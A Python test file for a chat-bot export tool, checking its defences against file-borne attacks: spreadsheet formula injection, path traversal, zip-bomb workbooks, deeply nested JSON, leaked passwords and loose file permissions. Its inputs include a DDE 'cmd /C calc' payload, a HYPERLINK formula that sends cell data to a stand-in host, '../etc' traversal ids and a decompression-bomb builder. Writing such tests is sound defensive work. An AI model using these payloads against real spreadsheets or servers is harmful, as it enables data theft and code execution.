"""Attacks through files (issue 15): formula injection into every spreadsheet and CSV the
product writes, table names and message ids that are not file names, workbooks that unpack to
millions of rows, JSON nested past the recursion limit, passwords in banners, and files other
local users can read. Each test opens what was actually written (or sent) and asserts on it."""

from __future__ import annotations

import csv
import json
import os
import stat
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.caches import store
from bot.caches.fetch import TableData
from bot.caches.sources import parse_source
from bot.models import ChatCommand
from sandbox.seed import QUALITY_NODE
from sandbox.state import DEFAULT_USER_OPEN_ID
from tests.helpers import sender

PAYLOADS = [
    '=HYPERLINK("http://x/?"&B3,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
EVIL_TABLE = "人力/盘点"
CHAT = "oc_files_chat"

SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


def _no_formulas(path: Path) -> list[str]:
    """Every cell's visible text, after asserting that no cell of any sheet is a formula."""
    book = load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    return texts


def _assert_text_kept(texts: list) -> None:
    """The visible text is exactly what was cached (XML reads a raw CR back as LF)."""
    for payload in PAYLOADS:
        assert payload.replace("\r", "\n") in texts, payload


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_csv_neutral(cells: list[str]) -> None:
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# -- 2. formula injection: cached tables (CLI and chat) -----------------------------------------


@pytest.fixture
def poisoned(services):
    """A cached table named `人力/盘点` (30 rows: a chat reply is a file), six names poisoned."""
    services.settings.chat_admins = [DEFAULT_USER_OPEN_ID]
    services.settings.chat_allowed_chats = [CHAT]  # a group: an app-token source is read in allowed chats
    source = store.add_source(services.engine, "quality", QUALITY_NODE, parse_source(QUALITY_NODE), 3600)
    fields = [{"field_id": "fldName", "field_name": "姓名", "type": 1, "is_primary": True},
              {"field_id": "fldLevel", "field_name": "职级", "type": 2}]
    names = PAYLOADS + [f"员工{n:03d}" for n in range(30 - len(PAYLOADS))]
    records = [{"record_id": f"rec{n:05d}", "fields": {"姓名": name, "职级": n}}
               for n, name in enumerate(names)]
    table = TableData("tblEvil", EVIL_TABLE, 1, fields, records)
    store.replace_bitable(services.engine, source.id, [table], datetime.now(UTC))
    return services


@SQLITE_ONLY
def test_cache_query_files_hold_formulas_as_text(poisoned, tmp_path):
    from click.testing import CliRunner

    from bot.cli.main import main as cli

    services = poisoned
    settings = services.settings
    env = {"DATABASE_URL": settings.effective_database_url, "REDIS_URL": settings.redis_url,
           "VAR_DIR": str(settings.var_dir)}
    xlsx, csv_path = tmp_path / "people.xlsx", tmp_path / "people.csv"
    result = CliRunner().invoke(cli, ["cache", "query", "quality", EVIL_TABLE, "--xlsx", str(xlsx),
                                      "--csv", str(csv_path)], env=env)
    assert result.exit_code == 0, result.output
    _assert_text_kept(_no_formulas(xlsx))
    _assert_csv_neutral(_csv_cells(csv_path))


def _chat(services, state, text: str) -> tuple[str, list]:
    message = state.add_user_message(CHAT, DEFAULT_USER_OPEN_ID, json.dumps({"text": text}))
    event = {"sender": {"sender_id": {"open_id": DEFAULT_USER_OPEN_ID}, "sender_type": "user"},
             "message": {"message_id": message.message_id, "chat_id": CHAT, "chat_type": "group",
                         "message_type": "text", "content": message.content}}
    from handlers.messages import on_message_receive

    try:
        outcome = on_message_receive(services, sender().envelope("im.message.receive_v1", event))
    except Exception as exc:  # the event job would retry; what did the user see meanwhile?
        outcome = f"raised {type(exc).__name__}"
    return outcome, [m for m in state.bot_sent if m.parent_id == message.message_id]


@SQLITE_ONLY
def test_chat_cache_file_of_a_slashed_table_holds_formulas_as_text(poisoned, sandbox, tmp_path):
    """8c + 2: `/cache` of a table named 人力/盘点 answers with an xlsx whose cells are text."""
    services, (base_url, state) = poisoned, sandbox
    outcome, replies = _chat(services, state, f"/cache quality {EVIL_TABLE}")
    assert outcome == "cache: ok", (outcome, [r.content for r in replies])
    [reply] = replies
    assert reply.msg_type == "file"
    file_key = json.loads(reply.content)["file_key"]
    name, _ = state.uploads[file_key]
    assert "/" not in name and "盘点" in name
    path = tmp_path / "reply.xlsx"
    path.write_bytes(httpx.get(f"{base_url}/sandbox/uploads/{file_key}").content)
    _assert_text_kept(_no_formulas(path))


@SQLITE_ONLY
def test_a_failing_chat_command_still_answers_the_user(poisoned, sandbox, monkeypatch):
    """8c: whatever breaks inside a command, the user is told (once), and the audit says error."""
    services, (_, state) = poisoned, sandbox
    from bot.chat import actions

    def broken(*args):
        raise OSError("disk full")

    monkeypatch.setitem(actions.ACTIONS, ("status", ""), broken)
    outcome, replies = _chat(services, state, "/status")
    assert outcome == "raised OSError"  # still raised: the event job retries transient failures
    [reply] = replies
    assert "出错" in json.loads(reply.content)["text"]
    with services.sessions() as session:
        assert session.scalar(select(ChatCommand.outcome)) == "error"


def test_merged_contract_workbook_and_csv_hold_formulas_as_text(tmp_path):
    """2: the merged contract files (bot/export/merge.py) — records and the validation sheet."""
    from bot.export.merge import Merged, write_csv, write_workbook

    columns = ["协同ID", "创建时间", "备注"]
    rows = [(f"id{n}", "2024-01-01 00:00:00", payload) for n, payload in enumerate(PAYLOADS)]
    merged = Merged(columns, rows, {r[0]: 0 for r in rows})
    report = {"ok": False, "range": ["2024-01-01", "2024-01-02"], "export_calls": 1,
              "totals": {"records": len(rows)}, "coverage_gaps": [], "not_exported": [],
              "columns": {"differences": []}, "spot_check": {"sampled": 0, "mismatches": []},
              "null_rates": {"=cmd|' /C calc'!A0": 0.0},
              "windows": [{"window": 1, "start": "a", "end": "b", "state": "verified", "rows": 6,
                           "attempts": 1, "file": "=evil.xlsx"}]}
    workbook, csv_path = tmp_path / "merged.xlsx", tmp_path / "merged.csv"
    write_workbook(workbook, merged, report)
    write_csv(csv_path, merged)
    texts = _no_formulas(workbook)
    _assert_text_kept(texts)
    assert "null rate: =cmd|' /C calc'!A0" in texts
    _assert_csv_neutral(_csv_cells(csv_path))


# -- 8a. JSON nested past the recursion limit --------------------------------------------------

DEEP = b"[" * 100_000


@SQLITE_ONLY
def test_deeply_nested_json_is_a_client_error_not_a_traceback(client, services, caplog):
    """8a: 100,000 `[` at the webhook and at the REST API: 400, no traceback logged."""
    response = client.post("/webhook/event", data=DEEP, content_type="application/json")
    assert response.status_code == 400, response.get_data(as_text=True)[:200]
    assert response.get_json()["reason"] == "not_json"
    wrapped = json.dumps({"encrypt": "x", "deep": "y"}).encode()[:-1] + b", \"z\": " + DEEP + b"}"
    assert client.post("/webhook/event", data=wrapped, content_type="application/json").status_code == 400
    token = services.settings.admin_token.get_secret_value()
    api = client.post("/api/v1/coze-sync-templates", data=DEEP, content_type="application/json",
                      headers={"Authorization": f"Bearer {token}"})
    assert api.status_code == 400, api.get_data(as_text=True)[:200]
    assert not [r for r in caplog.records if r.exc_info], [r.getMessage() for r in caplog.records]


def test_examine_refuses_deep_json_encrypted_or_not():
    """8a, the pure part: `examine` names the problem instead of raising RecursionError."""
    from bot.intake.parse import Reason, Refusal, examine
    from sandbox.crypto import encrypt

    plain = examine(DEEP, {}, "", "")
    assert isinstance(plain, Refusal) and plain.reason is Reason.NOT_JSON
    sealed = json.dumps({"encrypt": encrypt("[" * 100_000, "k" * 16)}).encode()
    refused = examine(sealed, {}, "k" * 16, "")
    assert isinstance(refused, Refusal) and refused.reason is Reason.UNDECRYPTABLE


# -- 8b. passwords in the `up` banner ------------------------------------------------------------

SECRET = "Pg-s3cret-Passw0rd"


@pytest.mark.parametrize("url", [
    f"postgresql+psycopg://bridge:{SECRET}@db.internal:5432/bridge",
    f"postgresql+psycopg://bridge@db.internal/bridge?sslmode=require&password={SECRET}",
    f"postgresql+psycopg:///bridge?host=/run/postgresql&PASSWORD={SECRET}",
    f"postgresql://bridge:{SECRET}@db@bad/bridge",
])
def test_up_banner_never_shows_a_database_password(tmp_path, url):
    """8b: the banner `up` prints names the database and Redis, never their passwords."""
    from bot.masking import mask_url
    from bot.processes.up import summary
    from tests.conftest import make_settings

    settings = make_settings(tmp_path, database_url=url, redis_url=f"redis://:{SECRET}@cache:6379/0")
    banner = "\n".join(summary(settings, "http://127.0.0.1:8000", None, None))
    assert SECRET not in banner and "bridge" in banner and "cache:6379" in banner
    assert SECRET not in mask_url(url) and "bridge" in mask_url(url)


# -- 8d. export files named from an unvalidated message id ---------------------------------------


def _contract_book(path: Path, rows: int = 3) -> bytes:
    """A small export workbook in the contract bot's shape (id and creation-time columns)."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("协同记录")
    sheet.append(["协同记录ID", "创建时间", "备注"])
    for n in range(rows):
        sheet.append([f"rec{n:06d}", f"2024-01-01 00:00:{n % 60:02d}", "x"])
    book.save(path)
    return path.read_bytes()


@pytest.mark.parametrize("message_id", ["../../../etc/cron.d/x", "om_a/../../b", "om_" + "a" * 65,
                                        "", "om_a\x00", "om_ok.xlsx"])
def test_completion_messages_with_odd_ids_are_not_recognised(tmp_path, message_id):
    """8d: only a Feishu-shaped message id (`om_…`) is ever recorded for download."""
    from bot.export.catch import recognise
    from tests.conftest import make_settings

    settings = make_settings(tmp_path, export_chat_id="oc_contract")
    content = json.dumps({"file_key": "file_v3_x", "file_name": "合同协同.xlsx"})
    found = dict(chat_id="oc_contract", msg_type="file", create_time="1700000000000", sender_ids=set(),
                 content=content, settings=settings)
    assert recognise(message_id="om_abcDEF_123-x", **found) is not None
    assert recognise(message_id=message_id, **found) is None


@SQLITE_ONLY
def test_a_downloaded_file_lands_in_the_archive_whatever_its_message_id(services, tmp_path):
    """8d: a row recorded with a hostile message id (older data, another writer) cannot steer the
    file's path: it is named by the row id, inside the archive's incoming/ directory."""
    from bot.export.download import incoming_dir, save_download
    from bot.models import ExportFile, utcnow

    now = utcnow()
    with services.sessions() as session, session.begin():
        row = ExportFile(message_id="../../escaped", chat_id="oc", file_key="k", file_name="合同协同.xlsx",
                         message_at=now, seen_via="poll", state="received", attempts=0,
                         received_at=now, updated_at=now)
        session.add(row)
        session.flush()
        file_id = row.id
    content = _contract_book(tmp_path / "src.xlsx")
    save_download(services.engine, services.settings, file_id, content, "api")
    with services.sessions() as session:
        stored = Path(session.get_one(ExportFile, file_id).path)
    assert stored.parent == incoming_dir(services.settings)
    assert stored.read_bytes() == content
    assert not (services.settings.effective_archive_dir.parent / "escaped.xlsx").exists()


# -- 8f. files other local users could read ------------------------------------------------------


@pytest.fixture
def usual_umask():
    """The umask most servers run with (022): what made every file 0644 before."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_sqlite_database_and_its_backups_are_private(tmp_path, usual_umask):
    """8f: the DB (and its -wal/-shm), VAR_DIR, backups and the key file: 0600 files, 0700 dirs."""
    from bot.backup import backup
    from bot.db import init_schema, make_engine
    from bot.processes.runtime import prepare
    from bot.tokens.secretbox import KEY_FILE, encryption_keys
    from tests.conftest import make_settings

    settings = make_settings(tmp_path, redis_url="redis://127.0.0.1:1/0")
    prepare(settings, metrics=False)
    assert _mode(settings.var_dir) == 0o700
    url = f"sqlite:///{settings.var_dir / 'db' / 'bridge.db'}"
    engine = make_engine(url)
    init_schema(engine)
    database = settings.var_dir / "db" / "bridge.db"
    assert _mode(database.parent) == 0o700
    for path in database.parent.iterdir():
        assert _mode(path) == 0o600, path
    engine.dispose()
    target = tmp_path / "backups" / "copy.db"
    backup(url, target)
    assert (_mode(target), _mode(target.parent)) == (0o600, 0o700)
    encryption_keys(settings.model_copy(update={"token_encryption_key": settings.token_encryption_key
                                                .__class__("")}))
    assert _mode(settings.var_dir / KEY_FILE) == 0o600


@SQLITE_ONLY
def test_downloaded_and_merged_exports_are_private(services, tmp_path, usual_umask):
    """8f: the archive's incoming/ directory and a saved download; the merged workbook and CSV."""
    from bot.export.download import incoming_dir, save_download
    from bot.export.merge import Merged, write_csv, write_workbook
    from bot.models import ExportFile, utcnow

    now = utcnow()
    with services.sessions() as session, session.begin():
        row = ExportFile(message_id="om_private1", chat_id="oc", file_key="k", file_name="合同协同.xlsx",
                         message_at=now, seen_via="poll", state="received", attempts=0,
                         received_at=now, updated_at=now)
        session.add(row)
        session.flush()
        file_id = row.id
    save_download(services.engine, services.settings, file_id, _contract_book(tmp_path / "s.xlsx"), "api")
    incoming = incoming_dir(services.settings)
    assert _mode(incoming) == 0o700 and _mode(services.settings.effective_archive_dir) == 0o700
    assert [_mode(p) for p in incoming.iterdir()] == [0o600]
    merged = Merged(["协同记录ID", "创建时间"], [("r1", "2024-01-01 00:00:00")], {"r1": 0})
    report = {"ok": True, "range": ["a", "b"], "export_calls": 1, "totals": {}, "coverage_gaps": [],
              "not_exported": [], "columns": {"differences": []}, "null_rates": {}, "windows": [],
              "spot_check": {"sampled": 0, "mismatches": []}}
    write_workbook(tmp_path / "m.xlsx", merged, report)
    write_csv(tmp_path / "m.csv", merged)
    assert (_mode(tmp_path / "m.xlsx"), _mode(tmp_path / "m.csv")) == (0o600, 0o600)


# -- 8e. a small workbook that unpacks to a huge sheet -------------------------------------------

BOMB_ROWS = 150_000


def _bomb(path: Path, rows: int = BOMB_ROWS, *, declare: bool = True) -> Path:
    """A valid export workbook whose sheet holds `rows` rows: a few hundred KB zipped, tens of
    MB of XML unpacked; `declare=False` leaves out the <dimension> a liar would omit."""
    import zipfile

    small = tmp = path.with_suffix(".small.xlsx")
    _contract_book(tmp, rows=1)
    body = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>rec{n:07d}</t></is></c>'
        f'<c r="B{n}" t="inlineStr"><is><t>2024-01-01 00:00:00</t></is></c></row>'
        for n in range(2, rows + 2))
    header = ('<row r="1"><c r="A1" t="inlineStr"><is><t>协同记录ID</t></is></c>'
              '<c r="B1" t="inlineStr"><is><t>创建时间</t></is></c></row>')
    dimension = f'<dimension ref="A1:B{rows + 1}"/>' if declare else ""
    sheet = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             f"{dimension}<sheetData>{header}{body}</sheetData></worksheet>")
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = sheet.encode()
            out.writestr(info.filename, data)
    small.unlink()
    return path


@pytest.mark.parametrize("declare", [True, False])
def test_a_workbook_with_too_many_rows_is_refused_before_it_is_read(tmp_path, declare):
    """8e: the declared dimension (or, when a file leaves it out, a streamed count of its rows)
    above the row limit refuses the file with a clear error, without loading it."""
    from bot.export.files import BadExportFile, read_export
    from bot.export.limits import WorkbookLimits

    path = _bomb(tmp_path / "bomb.xlsx", declare=declare)
    assert path.stat().st_size < 2_000_000
    with pytest.raises(BadExportFile, match="rows"):
        read_export(path, id_column="协同记录ID", time_column="创建时间",
                    limits=WorkbookLimits(max_uncompressed_bytes=200 << 20, max_rows=100_000))


@SQLITE_ONLY
def test_a_download_that_unpacks_past_the_size_limit_is_refused(services, tmp_path):
    """8e: EXPORT_MAX_UNCOMPRESSED_MB is checked on the zip's own entry sizes, before reading."""
    from bot.export.download import save_download
    from bot.export.files import BadExportFile
    from bot.models import ExportFile, utcnow

    services.settings.export_max_uncompressed_mb = 5
    content = _bomb(tmp_path / "bomb.xlsx", rows=60_000).read_bytes()
    now = utcnow()
    with services.sessions() as session, session.begin():
        row = ExportFile(message_id="om_bomb", chat_id="oc", file_key="k", file_name="合同协同.xlsx",
                         message_at=now, seen_via="poll", state="received", attempts=0,
                         received_at=now, updated_at=now)
        session.add(row)
        session.flush()
        file_id = row.id
    with pytest.raises(BadExportFile, match="uncompressed"):
        save_download(services.engine, services.settings, file_id, content, "api")


# -- the pure parts -------------------------------------------------------------------------------


@pytest.mark.parametrize(("given", "expected"), [
    ("quality-人力/盘点", "quality-人力_盘点"), ("../../etc/passwd", "_.._etc_passwd"),
    ("a\\b:c*?\"<>|d", "a_b_c_d"), ("..", "file"), ("", "file"), ("CON", "file_CON"),
    (" 名单. ", "名单"), ("x" * 300, "x" * 120),
])
def test_safe_filename(given, expected):
    from bot.filenames import safe_filename

    assert safe_filename(given) == expected


def test_csv_cells_are_quoted_only_when_formula_like():
    from bot.cells import csv_cell

    assert [csv_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert [csv_cell(v) for v in ("张三", "a=b", -3, 1.5, None, "")] == ["张三", "a=b", -3, 1.5, None, ""]
